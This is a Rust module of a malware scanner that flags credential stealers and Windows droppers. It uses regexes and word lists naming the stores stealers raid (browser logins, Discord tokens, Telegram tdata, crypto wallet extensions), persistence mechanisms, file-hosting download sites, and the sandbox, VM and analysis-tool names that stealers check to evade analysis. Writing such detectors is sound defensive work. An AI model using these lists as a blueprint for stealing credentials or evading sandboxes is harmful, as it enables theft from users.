//! Shapes of credential stealers and Windows droppers, for code a Linux sandbox cannot
//! run: W4SP/Creal/Hazard-style token grabbers, Exodus/MetaMask wallet stealers and
//! Discord-CDN droppers crash on `os.environ["APPDATA"]` or `from ctypes import windll`
//! before they do anything observable, so only their text shows what they were for.
//!
//! Signals (all lexical, for JavaScript, Python and script files alike):
//! - `stealer-targets`: the file names credential stores of *other* programs (browser
//!   profiles, Discord token storage, Telegram `tdata`, wallets, Steam `ssfn`,
//!   FileZilla, game sessions); value = number of categories. Cookie libraries
//!   (browser_cookie3, yt-dlp) name the browser stores honestly: one category is weak.
//! - `exfil-credential`: a hard-coded Telegram bot token or Discord webhook with its
//!   token (also inside a base64 `aHR0c…` literal); the detail masks the secret. A
//!   base64 literal that decodes to a data-drop URL gives `endpoint-exfil-service`.
//! - `windows-persistence`: Startup folder, `CurrentVersion\Run` keys, `schtasks
//!   /create`, `reg add …\Run`, browser shortcuts rewritten with `--load-extension`;
//!   value = number of mechanisms.
//! - `executable-download`: a URL whose path names an `.exe`/`.scr`/`.bat`/... in a file
//!   that also starts processes; value 2 when the host is a file-sharing site, a chat
//!   CDN, a paste site, a shortener or a bare IP, else 1.
//! - `anti-analysis`: quoted names of sandbox/VM users, hosts, HWIDs, MAC prefixes,
//!   IPs and analysis tools (`WDAGUtilityAccount`, `vmtoolsd`, `wireshark`, ...);
//!   value = number of distinct names.
//!
//! Cost: files that name none of the anchor words (nearly all) cost one
//! case-insensitive multi-literal search per check.

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use base64::Engine;
use regex::Regex;

use crate::text::{clip, regexes, Lines};
use crate::{ids, Signal};

// `SEP` in the comments below: a path separator, or the end of one string literal and
// the start of the next (`os.path.join('Google', 'Chrome')`, `a + '\\Chrome'`).
regexes! {
    RE_PERSIST_SHORTCUT = r#"(?i)CreateShortcut|\.lnk['"`]|shortcut\.Arguments"#;
    RE_BROWSER_STORE = r#"(?i)Login Data|Web Data|Local State|key4\.db|logins\.json|cookies\.sqlite|(?:Network|Default|Profile[ _]?\d+)(?:[\\/]|['"`]\s*[,+]\s*['"`])+Cookies(?-u:\b)"#;
    RE_BROWSER_DIR = r#"(?i)Google(?:[\\/]|['"`]\s*[,+]\s*['"`])+Chrome|Chrome(?:[\\/]|['"`]\s*[,+]\s*['"`])+User Data|BraveSoftware|Microsoft(?:[\\/]|['"`]\s*[,+]\s*['"`])+Edge|Opera Software|Opera (?:GX )?Stable|YandexBrowser|Vivaldi(?:[\\/]|['"`]\s*[,+]\s*['"`])+User Data|Mozilla(?:[\\/]|['"`]\s*[,+]\s*['"`])+Firefox|Firefox(?:[\\/]|['"`]\s*[,+]\s*['"`])+Profiles"#;
    RE_DISCORD_STORE = r#"(?i)Local Storage(?:[\\/]|['"`]\s*[,+]\s*['"`])+leveldb|(?:['"`]|[\\/])leveldb(?:['"`]|[\\/])"#;
    RE_DISCORD_TOKEN = r#"dQw4w9WgXcQ|\]\{2[3-6](?:,\d+)?\}\\\.\[[^\]\n]{1,30}\]\{6(?:,\d+)?\}|mfa\\\.\[[^\]\n]{1,30}\]\{84"#;
    RE_DISCORD_WORD = r"(?i)discord";
    RE_TELEGRAM_STORE = r#"(?i)(?:['"`]|[\\/])tdata(?:['"`]|[\\/])"#;
    RE_TELEGRAM_WORD = r"(?i)telegram";
    RE_WALLET_STORE = r#"(?i)exodus\.wallet|Exodus(?:[\\/]|['"`]\s*[,+]\s*['"`])+exodus|Electrum(?:-LTC)?(?:[\\/]|['"`]\s*[,+]\s*['"`])+wallets|atomic(?:[\\/]|['"`]\s*[,+]\s*['"`])+Local Storage|Ledger Live|(?-u:\b)wallet\.dat(?-u:\b)|Coinomi(?:[\\/]|['"`]\s*[,+]\s*['"`])+(?:Coinomi|wallets)|Guarda(?:[\\/]|['"`]\s*[,+]\s*['"`])+Local Storage|com\.liberty\.jaxx|Ethereum(?:[\\/]|['"`]\s*[,+]\s*['"`])+keystore"#;
    RE_STEAM_STORE = r#"(?i)(?:['"`*]|[\\/])ssfn|loginusers\.vdf"#;
    RE_FTP_STORE = r#"(?i)recentservers\.xml|sitemanager\.xml|FileZilla(?:[\\/]|['"`]\s*[,+]\s*['"`])|Martin Prikryl"#;
    RE_GAME_STORE = r#"\.ROBLOSECURITY|launcher_accounts(?:_microsoft_store)?\.json|microsoft_accounts\.json|\.lunarclient|(?i:Growtopia(?:[\\/]|['"`]\s*[,+]\s*['"`])+save\.dat)"#;
    RE_TELEGRAM_BOT_TOKEN = r"(?:^|[^0-9A-Za-z_-])(\d{8,10}):(AA[0-9A-Za-z_-]{33})(?:[^0-9A-Za-z_-]|$)";
    RE_DISCORD_WEBHOOK = r"(?i)(?:ptb\.|canary\.)?discord(?:app)?\.com/api/(?:v\d{1,2}/)?webhooks/(\d{17,20})/([A-Za-z0-9_-]{60,80})";
    RE_B64_URL = r"aHR0c[A-Za-z0-9+/]{14,}={0,2}";
    RE_PERSIST_STARTUP = r#"(?i)Start Menu(?:[\\/]|['"`]\s*[,+]\s*['"`])+Programs(?:[\\/]|['"`]\s*[,+]\s*['"`])+Startup|shell:(?:common )?startup"#;
    RE_PERSIST_RUN_KEY = r#"(?i)CurrentVersion(?:[\\/]|['"`]\s*[,+]\s*['"`])+Run(?:Once|Services|ServicesOnce)?(?-u:\b)"#;
    RE_PERSIST_SCHTASKS = r#"(?i)(?-u:\b)schtasks(?:\.exe)?['"`]?(?:\s+|\s*,\s*['"`])/create(?-u:\b)|Register-ScheduledTask"#;
    RE_PERSIST_REG_ADD = r#"(?i)(?-u:\b)reg(?:\.exe)?['"`]?(?:\s+|\s*,\s*['"`])add(?-u:\b)[^\n]{0,200}\\Run(?:Once)?(?-u:\b)"#;
    RE_URL = r#"(?i)(?-u:\b)(?:https?|ftp)://[^\s'"`<>()\\{}|^]+"#;
    RE_EXE_EXT = r"(?i)\.(?:exe|scr|bat|cmd|ps1|vbs|msi|jar|dll)(?-u:\b)";
    RE_RUNS = r"(?-u:\b)subprocess(?-u:\b)|(?-u:\b)startfile\s*\(|os\.system|os\.popen|(?-u:\b)os\.exec[lv]p?e?\s*\(|(?-u:\b)Popen(?-u:\b)|ShellExecute|WinExec|child_process|(?-u:\b)execSync(?-u:\b)|(?-u:\b)execFile(?:Sync)?(?-u:\b)|(?-u:\b)spawn(?:Sync)?\s*\(|Start-Process|Invoke-Item|WScript\.Shell";
    RE_WRITES = r#"open\([^)\n]*['"](?:wb|w|ab|w\+b|bw)['"]|urlretrieve|\.write\(|writeFile|createWriteStream|DownloadFile|Out-File|-OutFile|copyfileobj|\.save\("#;
}

/// Browser extension ids of crypto wallets (Chrome Web Store ids, also used by
/// Chromium browsers). A stealer copies `Local Extension Settings/<id>`.
const WALLET_EXTENSIONS: &[(&str, &str)] = &[
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "MetaMask"),
    ("fhbohimaelbohpjbbldcngcnapndodjp", "Binance Wallet"),
    ("hnfanknocfeofbddgcijnmhnfnkdnaad", "Coinbase Wallet"),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "Phantom"),
    ("ibnejdfjmmkpcnlpebklmnkoeoihofec", "TronLink"),
    ("fnjhmkhhmkbjkkabndcnnogagogbneec", "Ronin"),
    ("egjidjbpglichdcondbcbdnbeeppgdph", "Trust Wallet"),
    ("aeachknmefphepccionboohckonoeemg", "Coin98"),
    ("dmkamcknogkgcdfhhbddcghachkejeap", "Keplr"),
    ("afbcbjpbpfadlkmhmclhkeeodmamcflc", "Math Wallet"),
    ("ffnbelfdoeiohenkjibnmadjiehjhajb", "Yoroi"),
    ("lpfcbjknijpeeillifnkikgncikgfhdo", "Nami"),
    ("hpglfhgfnhbgpjdenjgmdgoeiappafln", "Guarda"),
    ("cjelfplplebdjjenllpjcblmjkfcffne", "Jaxx Liberty"),
    ("mcohilncbfahbmgdjkbpemcciiolgcge", "OKX Wallet"),
    ("acmacodkjbdgmoleebolmdjonilkdbch", "Rabby"),
    ("bhhhlbepdkbapadjdnnojkbgioiodbic", "Solflare"),
    ("ejbalbakoplchlghecdalmeeeajnimhm", "MetaMask (Edge)"),
];

/// Hosts an executable is "downloaded from a file host" when fetched from: file
/// sharing, chat CDNs, paste sites and URL shorteners. A suffix match on the host, or
/// a substring of the URL when the entry has a `/`.
const FILE_HOSTS: &[&str] = &[
    "cdn.discordapp.com/attachments",
    "media.discordapp.net/attachments",
    "cdn.discordapp.com/ephemeral-attachments",
    "mediafire.com",
    "dropbox.com",
    "dropboxusercontent.com",
    "anonfiles.com",
    "anonfile.com",
    "bayfiles.com",
    "anonymfile.com",
    "gofile.io",
    "transfer.sh",
    "file.io",
    "temp.sh",
    "catbox.moe",
    "0x0.st",
    "filebin.net",
    "sendspace.com",
    "mega.nz",
    "ufile.io",
    "pixeldrain.com",
    "filetransfer.io",
    "pastebin.com",
    "paste.ee",
    "rentry.co",
    "bit.ly",
    "tinyurl.com",
    "cutt.ly",
    "is.gd",
    "ngrok.io",
    "ngrok-free.app",
    "trycloudflare.com",
    "1drv.ms",
    "onedrive.live.com",
    "drive.google.com",
];

/// Names sandbox/VM/analysis checks compare against (public lists in W4SP, Creal,
/// Hazard, Blank Grabber and their forks: `blackListedUsers`, `blackListedPCNames`,
/// `blackListedHWIDS`, `blacklistedProcesses`, MAC prefixes, IPs), lowercase. Generic
/// words from those lists (`john`, `test`, `work`, `server`, `cmd`, `taskmgr`) are left
/// out: they are ordinary strings elsewhere.
const ANALYSIS_NAMES: &[(&str, &str)] = &[
    // users
    ("user", "wdagutilityaccount"),
    ("user", "peter wilson"),
    ("user", "hmarc"),
    ("user", "patex"),
    ("user", "rdhj0cnfevzx"),
    ("user", "keecfmwgj"),
    ("user", "8nl0colnq5bq"),
    ("user", "pxmduopvyx"),
    ("user", "8vizsm"),
    ("user", "w0fjuovmccp5a"),
    ("user", "lmvwjj9b"),
    ("user", "pqonjhvwexss"),
    ("user", "3u2v9m8"),
    ("user", "heuerzl"),
    ("user", "bvjchrpnsxn"),
    ("user", "harry johnson"),
    ("user", "sqgfof3g"),
    ("user", "h7dk1xpr"),
    ("user", "rgzcbuyrznreg"),
    ("user", "ogjb6gqgk0o"),
    // host names
    ("host", "bee7370c-8c0c-4"),
    ("host", "desktop-nakffmt"),
    ("host", "win-5e07cos9alr"),
    ("host", "b30f0242-1c6a-4"),
    ("host", "desktop-vrsqlag"),
    ("host", "q9iatrkprh"),
    ("host", "xc64zb"),
    ("host", "desktop-d019gdm"),
    ("host", "desktop-wi8clet"),
    ("host", "lisa-pc"),
    ("host", "john-pc"),
    ("host", "desktop-b0t93d6"),
    ("host", "desktop-1pykp29"),
    ("host", "desktop-1y2433r"),
    ("host", "wileypc"),
    ("host", "6c4e733f-c2d9-4"),
    ("host", "ralphs-pc"),
    ("host", "desktop-wg3myjs"),
    ("host", "desktop-7xc6gez"),
    ("host", "desktop-5ov9s0o"),
    ("host", "qarzhrdbpj"),
    ("host", "oreleepc"),
    ("host", "archibaldpc"),
    ("host", "julia-pc"),
    ("host", "d1bnjkfvlh"),
    ("host", "nettypc"),
    ("host", "desktop-bugio"),
    ("host", "desktop-cbgpfee"),
    ("host", "tiqiyla9tw5m"),
    ("host", "desktop-kalvino"),
    ("host", "compname_4047"),
    ("host", "desktop-19olltd"),
    ("host", "desktop-de369se"),
    ("host", "ea8c2e2a-d017-4"),
    ("host", "desktop-iapkn1p"),
    ("host", "desktop-ntu7vuo"),
    ("host", "desktop-et51ajo"),
    // hardware ids
    ("hwid", "7ab5c494-39f5-4941-9163-47f54d6d5016"),
    ("hwid", "032e02b4-0499-05c3-0806-3c0700080009"),
    ("hwid", "03de0294-0480-05de-1a06-350700080009"),
    ("hwid", "11111111-2222-3333-4444-555555555555"),
    ("hwid", "6f3ca5ec-bec9-4a4d-8274-11168f640058"),
    ("hwid", "adeeee9e-ef0a-6b84-b14b-b83a54afc548"),
    ("hwid", "4c4c4544-0050-3710-8058-cac04f59344a"),
    ("hwid", "00000000-0000-0000-0000-ac1f6bd04972"),
    ("hwid", "5bd24d56-789f-8468-7cdc-caa7222cc121"),
    ("hwid", "49434d53-0200-9065-2500-65902500e439"),
    ("hwid", "49434d53-0200-9036-2500-36902500f022"),
    ("hwid", "777d84b3-88d1-451c-93e4-d235177420a7"),
    ("hwid", "49434d53-0200-9036-2500-369025000c65"),
    ("hwid", "b1112042-52e8-e25b-3655-6a4f54155dbf"),
    ("hwid", "00000000-0000-0000-0000-ac1f6bd048fe"),
    ("hwid", "eb16924b-fb6d-4fa1-8666-17b91f62fb37"),
    ("hwid", "a15a930c-8251-9645-af63-e45ad728c20c"),
    ("hwid", "67e595eb-54ac-4ff0-b5e3-3da7c7b547e3"),
    ("hwid", "c7d23342-a5d4-68a1-59ac-cf40f735b363"),
    ("hwid", "63203342-0eb0-aa1a-4df5-3fb37dbb0670"),
    ("hwid", "44b94d56-65ab-dc02-86a0-98143a7423bf"),
    ("hwid", "6608003f-ece4-494e-b07e-1c4615d1d93c"),
    ("hwid", "d9142042-8f51-5eff-d5f8-ee9ae3d1602a"),
    ("hwid", "49434d53-0200-9036-2500-369025003af0"),
    ("hwid", "8b4e8278-525c-7343-b825-280aebcd3bcb"),
    ("hwid", "4d4ddc94-e06c-44f4-95fe-33a1ada5ac27"),
    ("hwid", "79af5279-16cf-4094-9758-f88a616d81b4"),
    // VM guest tools, sandboxes, debuggers and traffic inspectors (processes, DLLs)
    ("process", "vmtoolsd"),
    ("process", "vmwaretray"),
    ("process", "vmwareuser"),
    ("process", "vgauthservice"),
    ("process", "vmacthlp"),
    ("process", "vmsrvc"),
    ("process", "vmusrvc"),
    ("process", "vboxservice"),
    ("process", "vboxtray"),
    ("process", "prl_cc"),
    ("process", "prl_tools"),
    ("process", "xenservice"),
    ("process", "qemu-ga"),
    ("process", "df5serv"),
    ("process", "joeboxcontrol"),
    ("process", "joeboxserver"),
    ("process", "ksdumper"),
    ("process", "ksdumperclient"),
    ("process", "httpdebuggerui"),
    ("process", "http debugger"),
    ("process", "wireshark"),
    ("process", "fiddler"),
    ("process", "processhacker"),
    ("process", "process hacker"),
    ("process", "procmon"),
    ("process", "procmon64"),
    ("process", "procexp"),
    ("process", "procexp64"),
    ("process", "ollydbg"),
    ("process", "x32dbg"),
    ("process", "x64dbg"),
    ("process", "x96dbg"),
    ("process", "ida64"),
    ("process", "idaq"),
    ("process", "idaq64"),
    ("process", "pestudio"),
    ("process", "dnspy"),
    ("process", "ilspy"),
    ("process", "de4dot"),
    ("process", "extremedumper"),
    ("process", "megadumper"),
    ("process", "scylla"),
    ("process", "sbiedll.dll"),
    ("process", "cuckoomon.dll"),
    ("process", "vboxmouse.sys"),
    ("process", "vboxguest.sys"),
    ("process", "vmhgfs.sys"),
    ("process", "vmmouse.sys"),
    // MAC prefixes of VMware, VirtualBox, Parallels, Hyper-V, Xen
    ("mac", "00:0c:29"),
    ("mac", "00:50:56"),
    ("mac", "00:05:69"),
    ("mac", "00:1c:14"),
    ("mac", "08:00:27"),
    ("mac", "0a:00:27"),
    ("mac", "00:1c:42"),
    ("mac", "00:16:3e"),
    ("mac", "00:15:5d"),
    // analysis-service egress addresses
    ("ip", "88.132.231.71"),
    ("ip", "78.139.8.50"),
    ("ip", "20.99.160.173"),
    ("ip", "88.153.199.169"),
    ("ip", "84.147.62.12"),
    ("ip", "194.154.78.160"),
    ("ip", "92.211.109.160"),
    ("ip", "195.74.76.222"),
    ("ip", "188.105.91.116"),
    ("ip", "34.105.183.68"),
    ("ip", "92.211.55.199"),
    ("ip", "79.104.209.33"),
    ("ip", "95.25.204.90"),
    ("ip", "34.145.89.174"),
    ("ip", "109.74.154.90"),
    ("ip", "109.145.173.169"),
    ("ip", "34.141.146.114"),
    ("ip", "212.119.227.151"),
    ("ip", "195.239.51.59"),
    ("ip", "192.40.57.234"),
    ("ip", "64.124.12.162"),
    ("ip", "34.142.74.220"),
    ("ip", "188.105.91.173"),
    ("ip", "109.74.154.91"),
    ("ip", "34.105.72.241"),
    ("ip", "109.74.154.92"),
    ("ip", "213.33.142.50"),
];

/// Words one of the credential-store patterns needs (matched without regard to ASCII
/// case); a file naming none of them skips those regexes.
const TARGET_ANCHORS: &[&str] = &[
    "login data",
    "web data",
    "local state",
    "key4.db",
    "logins.json",
    "cookies.sqlite",
    "/cookies",
    "\\cookies",
    "'cookies",
    "\"cookies",
    "`cookies",
    "leveldb",
    "dQw4w9WgXcQ",
    "'tdata",
    "\"tdata",
    "/tdata",
    "\\tdata",
    "`tdata",
    "exodus",
    "electrum",
    "ledger live",
    "wallet.dat",
    "coinomi",
    "guarda",
    "liberty.jaxx",
    "keystore",
    "ssfn",
    "loginusers.vdf",
    "recentservers.xml",
    "sitemanager.xml",
    "filezilla",
    "martin prikryl",
    "roblosecurity",
    "launcher_accounts",
    "microsoft_accounts",
    "lunarclient",
    "growtopia",
    "]{23",
    "]{24",
    "]{25",
    "]{26",
    "mfa\\.",
];

/// The same for the persistence patterns.
const PERSIST_ANCHORS: &[&str] = &[
    "start menu",
    "shell:startup",
    "shell:common startup",
    "currentversion\\",
    "currentversion/",
    "currentversion'",
    "currentversion\"",
    "schtasks",
    "scheduledtask",
    "--load-extension",
];

/// What one pass of [`WORDS`] found in a file.
#[derive(Default)]
struct Words {
    /// Some credential-store pattern may match.
    targets: bool,
    /// Some persistence pattern may match.
    persist: bool,
    /// Quoted [`ANALYSIS_NAMES`] (lowercase, kind) and the offset of the first.
    names: BTreeMap<String, &'static str>,
    first_name: Option<usize>,
}

/// [`ANALYSIS_NAMES`], [`TARGET_ANCHORS`], [`PERSIST_ANCHORS`] and the first ten
/// letters of each [`WALLET_EXTENSIONS`] id in one ASCII-case-insensitive DFA, longest
/// match first (`ksdumperclient` must not stop at `ksdumper`): one pass over the file.
/// `(?i)` regex alternations of these ran the lazy DFA over typescript's 22 MB several
/// times, and Unicode `\b` made it fall back to slower engines on non-ASCII files.
static WORDS: LazyLock<Option<(AhoCorasick, [usize; 3])>> = LazyLock::new(|| {
    let mut pats: Vec<&str> = ANALYSIS_NAMES.iter().map(|(_, n)| *n).collect();
    let names = pats.len();
    pats.extend(TARGET_ANCHORS);
    pats.extend(WALLET_EXTENSIONS.iter().map(|(id, _)| &id[..10]));
    let targets = pats.len();
    pats.extend(PERSIST_ANCHORS);
    let ac = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::LeftmostLongest)
        .kind(Some(AhoCorasickKind::DFA))
        .build(&pats)
        .ok()?;
    Some((ac, [names, targets, pats.len()]))
});

fn words(src: &str) -> Words {
    let mut w = Words::default();
    let Some((ac, [names, targets, _])) = &*WORDS else {
        w.targets = true;
        w.persist = true;
        return w;
    };
    let b = src.as_bytes();
    let quote = |c: u8| matches!(c, b'"' | b'\'' | b'`');
    for m in ac.find_iter(src) {
        let i = m.pattern().as_usize();
        if i >= *targets {
            w.persist = true;
            continue;
        }
        if i >= *names {
            w.targets = true;
            continue;
        }
        // A name counts when it is a whole quoted string (`.exe`/`.dll` allowed).
        let before = m.start().checked_sub(1).map(|i| b[i]);
        let mut end = m.end();
        for ext in [".exe", ".dll"] {
            if b.len() >= end + ext.len()
                && b[end..end + ext.len()].eq_ignore_ascii_case(ext.as_bytes())
            {
                end += ext.len();
            }
        }
        let after = b.get(end).copied();
        if before.is_some_and(quote) && after.is_some_and(quote) {
            w.first_name.get_or_insert(m.start());
            w.names.insert(
                src[m.start()..m.end()].to_ascii_lowercase(),
                ANALYSIS_NAMES[i].0,
            );
        }
    }
    w
}

/// All checks of this module over one file's text.
pub(crate) fn text_signals(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    let w = words(src);
    exfil_credentials(rel, src, lines, out);
    if w.targets {
        stealer_targets(rel, src, lines, out);
    }
    if w.persist {
        persistence(rel, src, lines, out);
    }
    executable_download(rel, src, lines, out);
    anti_analysis(rel, &w, lines, out);
}

fn find<'s>(re: &LazyLock<Option<Regex>>, src: &'s str) -> Option<regex::Match<'s>> {
    re.as_ref().and_then(|r| r.find(src))
}

/// Credential stores of other programs the file names, by category.
fn stealer_targets(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    // (category, first offset, what was named)
    let mut found: Vec<(&str, usize, String)> = Vec::new();
    if let (Some(store), Some(_)) = (find(&RE_BROWSER_STORE, src), find(&RE_BROWSER_DIR, src)) {
        found.push(("browsers", store.start(), store.as_str().to_string()));
    }
    let discord = find(&RE_DISCORD_TOKEN, src)
        .or_else(|| find(&RE_DISCORD_WORD, src).and_then(|_| find(&RE_DISCORD_STORE, src)));
    if let Some(m) = discord {
        found.push(("discord", m.start(), clip(m.as_str(), 40)));
    }
    if let (Some(m), Some(_)) = (find(&RE_TELEGRAM_STORE, src), find(&RE_TELEGRAM_WORD, src)) {
        found.push(("telegram", m.start(), "tdata".into()));
    }
    let mut wallets: Vec<(usize, String)> = Vec::new();
    if let Some(m) = find(&RE_WALLET_STORE, src) {
        wallets.push((
            m.start(),
            m.as_str().trim_matches(['\\', '/', '\'', '"']).to_string(),
        ));
    }
    for (id, name) in WALLET_EXTENSIONS {
        if let Some(i) = src.find(id) {
            wallets.push((i, format!("{name} extension")));
        }
    }
    if !wallets.is_empty() {
        wallets.sort();
        let first = wallets[0].0;
        let names: Vec<String> = wallets.into_iter().map(|(_, n)| n).take(4).collect();
        found.push(("wallets", first, names.join(", ")));
    }
    for (cat, re) in [
        ("steam", &RE_STEAM_STORE),
        ("ftp-clients", &RE_FTP_STORE),
        ("game-sessions", &RE_GAME_STORE),
    ] {
        if let Some(m) = find(re, src) {
            found.push((
                cat,
                m.start(),
                m.as_str()
                    .trim_matches(['\\', '/', '\'', '"', '*'])
                    .to_string(),
            ));
        }
    }
    if found.is_empty() {
        return;
    }
    let first = found.iter().map(|f| f.1).min().unwrap_or(0);
    let detail: Vec<String> = found
        .iter()
        .map(|(c, _, what)| format!("{c} ({})", clip(what, 60)))
        .collect();
    out.push(
        Signal::new(
            ids::STEALER_TARGETS,
            rel,
            Some(lines.line_of(first)),
            format!(
                "names credential stores of other programs: {}",
                detail.join("; ")
            ),
        )
        .with_value(found.len() as f64),
    );
}

/// Hard-coded Telegram bot tokens and Discord webhooks with their token, in the text
/// and in base64 literals of URLs (`aHR0c` is `http` encoded).
fn exfil_credentials(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    let mut seen: BTreeSet<String> = BTreeSet::new();
    let mut push = |off: usize, what: String, key: String, out: &mut Vec<Signal>| {
        if seen.insert(key) {
            out.push(Signal::new(
                ids::EXFIL_CREDENTIAL,
                rel,
                Some(lines.line_of(off)),
                what,
            ));
        }
    };
    let scan = |text: &str, how: &str| -> Vec<(usize, String, String)> {
        let mut hits = Vec::new();
        if text.contains(":AA") {
            if let Some(re) = &*RE_TELEGRAM_BOT_TOKEN {
                for c in re.captures_iter(text) {
                    let (Some(bot), Some(tok)) = (c.get(1), c.get(2)) else {
                        continue;
                    };
                    hits.push((
                        bot.start(),
                        format!(
                            "Telegram bot token{how} for bot {} ({}…)",
                            bot.as_str(),
                            &tok.as_str()[..4]
                        ),
                        format!("tg:{}", bot.as_str()),
                    ));
                }
            }
        }
        if text.contains("ebhooks/") {
            if let Some(re) = &*RE_DISCORD_WEBHOOK {
                for c in re.captures_iter(text) {
                    let (Some(all), Some(id), Some(tok)) = (c.get(0), c.get(1), c.get(2)) else {
                        continue;
                    };
                    hits.push((
                        all.start(),
                        format!(
                            "Discord webhook{how} {} with its token ({}…)",
                            id.as_str(),
                            &tok.as_str()[..4]
                        ),
                        format!("dc:{}", id.as_str()),
                    ));
                }
            }
        }
        hits
    };
    for (off, what, key) in scan(src, "") {
        push(off, what, key, out);
    }
    if let Some(re) = RE_B64_URL.as_ref().filter(|_| src.contains("aHR0c")) {
        for m in re.find_iter(src) {
            let s = m.as_str().trim_end_matches('=');
            // Unpadded base64 is valid at any length but 4k+1.
            let usable = if s.len() % 4 == 1 {
                s.len() - 1
            } else {
                s.len()
            };
            let Ok(bytes) = base64::engine::general_purpose::STANDARD_NO_PAD.decode(&s[..usable])
            else {
                continue;
            };
            let text = String::from_utf8_lossy(&bytes);
            for (_, what, key) in scan(&text, " (base64-encoded)") {
                push(m.start(), what, key, out);
            }
            // A data-drop URL hidden the same way (`b64decode("aHR0cHM6Ly9iaXQubHkv…")`)
            // is what `endpoint-exfil-service` reports for plain URLs.
            let url = RE_URL.as_ref().and_then(|r| r.find(&text));
            if let Some(url) = url.filter(|u| u.start() == 0) {
                let url = url.as_str();
                let svc = crate::code::url_host(url)
                    .and_then(|h| crate::code::exfil_service(&url.to_ascii_lowercase(), &h));
                if let Some(svc) = svc {
                    out.push(Signal::new(
                        ids::ENDPOINT_EXFIL_SERVICE,
                        rel,
                        Some(lines.line_of(m.start())),
                        format!("{svc}: {} (base64-encoded)", clip(url, 200)),
                    ));
                }
            }
        }
    }
}

/// Ways to start again at logon that only exist on Windows.
fn persistence(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    let mut found: Vec<(usize, &str, String)> = Vec::new();
    for (what, re) in [
        ("Startup folder", &RE_PERSIST_STARTUP),
        ("Run registry key", &RE_PERSIST_RUN_KEY),
        ("scheduled task", &RE_PERSIST_SCHTASKS),
        ("reg add of a Run key", &RE_PERSIST_REG_ADD),
    ] {
        if let Some(m) = find(re, src) {
            found.push((m.start(), what, clip(m.as_str(), 80)));
        }
    }
    // Browser shortcuts rewritten to load an extension at every start (a clipper or
    // stealer extension); test harnesses pass `--load-extension` without shortcuts.
    if let (Some(i), Some(_)) = (
        src.find("--load-extension"),
        find(&RE_PERSIST_SHORTCUT, src),
    ) {
        found.push((
            i,
            "browser shortcut loads an extension",
            "--load-extension".into(),
        ));
    }
    if found.is_empty() {
        return;
    }
    found.sort();
    let detail: Vec<String> = found.iter().map(|(_, w, m)| format!("{w} ({m})")).collect();
    out.push(
        Signal::new(
            ids::WINDOWS_PERSISTENCE,
            rel,
            Some(lines.line_of(found[0].0)),
            format!("Windows persistence: {}", detail.join("; ")),
        )
        .with_value(found.len() as f64),
    );
}

/// Whether `url` (lowercase) is on a file-sharing, chat-CDN, paste or shortener host,
/// or a bare IP address.
fn file_host(url: &str, host: &str) -> Option<String> {
    if host.parse::<std::net::Ipv4Addr>().is_ok() {
        return Some("a bare IP address".into());
    }
    FILE_HOSTS
        .iter()
        .find(|h| {
            if h.contains('/') {
                url.contains(*h)
            } else {
                host == **h || host.ends_with(&format!(".{h}"))
            }
        })
        .map(|h| h.to_string())
}

/// A URL whose path names a Windows executable or script, in a file that starts
/// processes.
fn executable_download(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    let (Some(url_re), Some(ext_re), Some(runs)) = (&*RE_URL, &*RE_EXE_EXT, &*RE_RUNS) else {
        return;
    };
    if !src.contains("://") || !ext_re.is_match(src) {
        return;
    }
    let Some(run) = runs.find(src) else { return };
    // (offset, url, file host)
    let mut urls: Vec<(usize, String, Option<String>)> = Vec::new();
    let mut seen = HashSet::new();
    for m in url_re.find_iter(src) {
        let url = m.as_str().trim_end_matches(['.', ',', ';', ':']);
        let Some(rest) = url.split_once("://").map(|(_, r)| r) else {
            continue;
        };
        let path = rest.split(['?', '#']).next().unwrap_or("");
        let mut segs = path.split('/');
        let host = segs.next().unwrap_or("").rsplit('@').next().unwrap_or("");
        let host = host.split(':').next().unwrap_or("").to_ascii_lowercase();
        let names_exe = segs.any(|s| {
            ext_re
                .find(s)
                .is_some_and(|e| e.end() == s.len() && e.start() > 0)
        });
        if !names_exe || !seen.insert(url.to_string()) {
            continue;
        }
        let fh = file_host(&url.to_ascii_lowercase(), &host);
        urls.push((m.start(), url.to_string(), fh));
    }
    if urls.is_empty() {
        return;
    }
    // Prefer a file-host URL for the line and the detail.
    urls.sort_by_key(|(off, _, fh)| (fh.is_none(), *off));
    let (off, url, fh) = &urls[0];
    let writes = RE_WRITES
        .as_ref()
        .and_then(|r| r.find(src))
        .map(|w| format!(", writes files ({})", clip(w.as_str(), 30)))
        .unwrap_or_default();
    let from = fh
        .as_ref()
        .map(|h| format!(" from {h}"))
        .unwrap_or_default();
    out.push(
        Signal::new(
            ids::EXECUTABLE_DOWNLOAD,
            rel,
            Some(lines.line_of(*off)),
            format!(
                "executable URL{from}: {} ({} such URLs); the file starts processes ({}){writes}",
                clip(url, 160),
                urls.len(),
                clip(run.as_str(), 30)
            ),
        )
        .with_value(if fh.is_some() { 2.0 } else { 1.0 }),
    );
}

/// Quoted names of sandbox users, hosts, HWIDs, MACs, IPs and analysis tools (found by
/// [`words`]).
fn anti_analysis(rel: &str, w: &Words, lines: &Lines, out: &mut Vec<Signal>) {
    let Some(first) = w.first_name else { return };
    let mut by_kind: BTreeMap<&str, usize> = BTreeMap::new();
    for k in w.names.values() {
        *by_kind.entry(k).or_default() += 1;
    }
    let kinds: Vec<String> = by_kind.iter().map(|(k, n)| format!("{n} {k}")).collect();
    let some: Vec<&str> = w.names.keys().map(String::as_str).take(6).collect();
    out.push(
        Signal::new(
            ids::ANTI_ANALYSIS,
            rel,
            Some(lines.line_of(first)),
            format!(
                "{} sandbox/VM/analysis-tool names ({}): {}",
                w.names.len(),
                kinds.join(", "),
                some.join(", ")
            ),
        )
        .with_value(w.names.len() as f64),
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn regexes_compile() {
        for (name, ok) in all_regexes() {
            assert!(ok, "{name} does not compile");
        }
        assert!(WORDS.is_some());
    }

    fn signals(rel: &str, src: &str) -> Vec<Signal> {
        let mut out = Vec::new();
        text_signals(rel, src, &Lines::new(src), &mut out);
        out
    }

